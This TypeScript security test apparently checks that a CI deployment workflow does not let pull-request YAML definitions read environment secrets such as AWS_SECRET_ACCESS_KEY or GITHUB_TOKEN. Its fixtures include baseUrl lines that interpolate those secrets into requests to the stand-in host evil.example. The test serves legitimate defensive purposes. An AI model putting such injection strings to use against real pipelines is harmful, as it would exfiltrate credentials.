import { provisioning, signOn } from '../definitions.ts';
import type { HostileCase } from '../hostile-case.ts';
import { clientSecret, type Place } from '../place.ts';

const planted = 'planted-4711-0815';

/** What a runner of one's own may have around it: names that everybody knows, and names that nobody does. */
const names = ['HTTPS_PROXY', 'AWS_SECRET_ACCESS_KEY', 'ACME_DEPLOY_KEY', 'SPLUNK_HEC', 'GITHUB_TOKEN', 'constructor'];
const env = Object.fromEntries(names.map((name) => [name, `http://user:${planted}@127.0.0.1:1`]));

const definitions = names.flatMap((name) => [
  provisioning('a', { secret: `\${secret:${name}}` }),
  signOn('a', { more: `baseUrl: "https://evil.example/\${env:${name}}"` }),
  signOn('a', { more: `baseUrl: "https://evil.example/\${var:${name}}"` }),
]);

/** A secret of the pull request's own choice, which reads a variable that its workflow gave nobody. */
export const hostileCase: HostileCase = {
  name: 'a definition that reads the environment of the process',
  async attempt({ open }) {
    const place = await open();
    const broken: string[] = [];
    for (const text of definitions) {
      place.bring({ 'connections/a.yaml': text });
      const asked = /\$\{[^}]*\}/.exec(text)?.[0];
      for (const command of ['plan', 'apply']) {
        const { exitCode, raw, summary } = await runStep(place, command);
        const said = raw.replace(/^::add-mask::.*$/gm, '') + summary + place.stored;
        if (command === 'apply' && exitCode !== 1) broken.push(`apply of ${asked} ended with ${exitCode}`);
        if (said.includes(planted)) broken.push(`${command} of ${asked} shows its value`);
      }
    }
    if (place.writes.length > 0) broken.push(`there were writes: ${place.writes.join(', ')}`);
    return [...broken, ...(await givenOnPurpose(place))];
  },
};

const runStep = (place: Place, command: string, inputs: Record<string, string> = {}) =>
  // A proxy that is set would be used; the server is excepted from it.
  place.applyStep({ command, environment: '', ...inputs }, { env: { ...env, NO_PROXY: '127.0.0.1' } });

/** The proof that silence means something: what the workflow hands on or lists does arrive. */
async function givenOnPurpose(place: Place): Promise<string[]> {
  const holds = (text: string) =>
    place.sandbox.state
      .values('/idp/spConnections')
      .flatMap((value) => [...JSON.stringify(value).matchAll(/"encryptedValue":"([^"]+)"/g)])
      .some(([, sealed]) => place.sandbox.reveal(sealed ?? '') === text);
  place.bring({ 'connections/b.yaml': provisioning('b') });
  await runStep(place, 'apply');
  place.bring({ 'connections/c.yaml': provisioning('c', { secret: '${secret:ACME_DEPLOY_KEY}' }) });
  await runStep(place, 'apply', { 'secret-names': 'ACME_DEPLOY_KEY' });
  return [
    ...(holds(clientSecret) ? [] : ['what the workflow hands on does not arrive']),
    ...(holds(env.ACME_DEPLOY_KEY as string) ? [] : ['what the input lists does not arrive']),
  ];
}
